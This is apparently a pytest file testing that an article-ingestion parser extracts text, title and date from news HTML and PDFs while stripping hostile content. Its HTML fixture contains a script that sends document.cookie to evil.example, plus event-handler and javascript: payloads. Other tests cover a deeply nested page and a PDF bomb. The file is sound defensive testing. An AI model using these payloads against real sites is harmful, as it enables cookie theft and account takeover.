"""Web pages and PDFs: their article text is read, their hostile parts refused or dropped."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfWriter

from rag.ingest.articles import ArticleError, parse_upload
from tests.ingest.pdfs import make_pdf

PAGE = """<html><head><title>Port of Valdora reopens</title>
<meta property="article:published_time" content="2022-06-12">
<link rel="canonical" href="https://news.example.com/valdora-port">
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><nav>Home | World | Sport</nav><article><h1>Port of Valdora reopens</h1>
<p>The port of Valdora reopened on Monday after a three week strike by dock workers.</p>
<p onmouseover="steal()">Ships had queued for days, said harbour master Ilse Brandt,
and <a href="javascript:alert(1)">the backlog</a> will take a month to clear.</p>
<img src="https://evil.example/pixel.png" onerror="steal()"></article></body></html>"""


def test_a_news_page_gives_its_article_text_title_date_and_link():
    article = parse_upload("valdora.html", PAGE.encode())
    assert article.title == "Port of Valdora reopens"
    assert article.date.isoformat() == "2022-06-12"
    assert article.url == "https://news.example.com/valdora-port"
    assert "three week strike" in article.text and "Ilse Brandt" in article.text
    for hostile in ("script", "document.cookie", "javascript:", "onmouseover", "evil.example"):
        assert hostile not in article.text
    assert "Home | World" not in article.text  # navigation is not article text


def test_deeply_nested_html_is_refused_or_read_without_crashing():
    deep = "<div>" * 200_000 + "Deep text of the article here." + "</div>" * 200_000
    try:
        article = parse_upload("deep.html", f"<html><body>{deep}</body></html>".encode())
    except ArticleError as e:
        assert "web page" in str(e)
    else:
        assert "Deep text" in article.text


def test_a_page_without_text_is_refused_with_a_reason():
    with pytest.raises(ArticleError, match="no article text"):
        parse_upload("empty.html", b"<html><body><script>x()</script></body></html>")


def test_a_pdf_gives_its_text_and_title():
    pdf = make_pdf(["Port of Valdora reopened on Monday.", "Ships queued."], title="Valdora")
    article = parse_upload("valdora.pdf", pdf)
    assert article.title == "Valdora"
    assert article.text.splitlines() == ["Port of Valdora reopened on Monday.", "Ships queued."]


def test_an_encrypted_pdf_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    with pytest.raises(ArticleError, match="encrypted"):
        parse_upload("locked.pdf", buffer.getvalue())


def test_a_pdf_bomb_is_refused_before_it_fills_memory():
    bomb = make_pdf(["A" * 100_000] * 60, compress=True)  # 7 KB that expand to 6 MB of text
    assert len(bomb) < 20_000
    with pytest.raises(ArticleError, match="over 5,000,000 characters"):
        parse_upload("bomb.pdf", bomb)


@pytest.mark.parametrize("data", [b"%PDF-1.4 garbage", b"not a pdf at all", b"%PDF-" + bytes(300)])
def test_a_broken_pdf_is_refused_with_a_reason(data):
    with pytest.raises(ArticleError, match="PDF"):
        parse_upload("broken.pdf", data)
